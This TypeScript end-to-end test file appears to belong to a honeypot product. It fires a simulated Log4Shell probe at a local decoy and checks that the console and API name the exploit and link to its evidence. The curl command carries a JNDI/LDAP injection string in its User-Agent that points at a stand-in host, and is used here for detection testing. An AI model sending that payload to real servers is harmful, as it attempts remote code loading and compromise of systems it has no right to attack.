import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Attacker, Identity, Page, Session, Stats } from '@decnet/contracts/api'
import { when } from '@decnet/kernel/testing'
import type { Browser, Page as Tab } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, it, onTestFailed, vi } from 'vitest'
import { launchBrowser, logIn, photograph, settled, visit } from './rig/browser.ts'
import { run } from './rig/client.ts'
import { expectFit } from './rig/fit.ts'
import { type Fleet, PASSWORD, startFleet } from './rig/fleet.ts'

const FROM = '127.8.6.1'
const PATIENCE = { timeout: 45_000, interval: 200 }

when({ tools: { chromium: 'chromium', curl: 'curl' } }).describe('the story of an address that sent Log4Shell', () => {
  const home = mkdtempSync(join(tmpdir(), 'fleet-'))
  let fleet: Fleet
  let browser: Browser
  let page: Tab
  let said = ''
  beforeAll(async () => {
    ;[fleet, browser] = await Promise.all([startFleet({ home }), launchBrowser()])
    page = (await visit(browser, fleet.ready.console, { expected: /status of 40[14]/u })).page
    await page.goto('/')
    await logIn(page, 'admin', PASSWORD)
    await page.getByRole('navigation', { name: 'Pages' }).waitFor()
    const { address, port, decky } = fleet.target('http')
    said = `tried Log4Shell (T1190) on ${decky}`
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's own words
    await run('curl', ['-s', '--interface', FROM, '-A', '${jndi:ldap://192.0.2.9:1389/a}', `http://${address}:${port}/`])
  })
  beforeEach(({ task }) => onTestFailed(() => photograph(page, `failed-${task.name.slice(0, 40)}`)))
  afterAll(async () => {
    await browser.close()
    await fleet[Symbol.asyncDispose]()
    rmSync(home, { recursive: true, force: true })
  })

  it('names the exploit in the API, for the attacker and on the overview', async () => {
    await vi.waitFor(async () => expect((await fleet.get<Attacker>(`/attackers/${FROM}`)).headline).toBe(said), PATIENCE)
    const { stories } = await fleet.get<Stats>('/stats')
    expect(stories.find(({ ip }) => ip === FROM)).toMatchObject({ text: said, technique: 'T1190' })
    // It stood open all the time, and nobody reloads it.
    await expect.poll(() => page.locator('.verdict').textContent(), { timeout: 4_000 }).toContain(`${FROM} first: it ${said}.`)
  })

  it('leads to the evidence by one click, from the overview and from the page of the attacker', async () => {
    const evidence = page.getByRole('complementary').getByText('jndi:ldap://192.0.2.9:1389/a')
    await page.goto('/')
    await settled(page)
    expect(await page.locator('.verdict').textContent()).toContain(`Nobody got in.H severity highLook at ${FROM} first: it ${said}.`)
    await expectFit(page, 'story-overview')
    await page
      .getByRole('link', { name: new RegExp(`${FROM}.*Log4Shell`, 'u') })
      .first()
      .click()
    await evidence.first().waitFor()
    await expectFit(page, 'story-evidence')
    const uuid = (await fleet.get<Attacker>(`/attackers/${FROM}`)).uuid
    await page.goto(`/attackers/${uuid}`)
    await settled(page)
    expect(await evidence.count()).toBe(0)
    await page.locator('.lead').getByRole('button', { name: 'T1190' }).click()
    await evidence.first().waitFor()
    await expectFit(page, 'story-attacker')
  })

  it('stands on the session and on the identity as well', async () => {
    const evidence = page.getByRole('complementary').getByText('jndi:ldap://192.0.2.9:1389/a')
    const { data } = await fleet.get<Page<Session>>(`/sessions?attacker=${(await fleet.get<Attacker>(`/attackers/${FROM}`)).uuid}`)
    await page.goto(`/?peek=session:${data[0]?.id}`)
    await page.getByRole('complementary').locator('.tech-line').first().click()
    await page.getByRole('complementary').getByText('Log4Shell').first().waitFor()
    await evidence.first().waitFor()
    const [identity] = (await fleet.get<Page<Identity>>('/identities')).data
    expect(identity?.headline).toBe(said)
    await page.goto(`/identities/${identity?.uuid}`)
    await settled(page)
    await page.locator('.lead').getByRole('button', { name: 'T1190' }).click()
    await evidence.first().waitFor()
  })
})
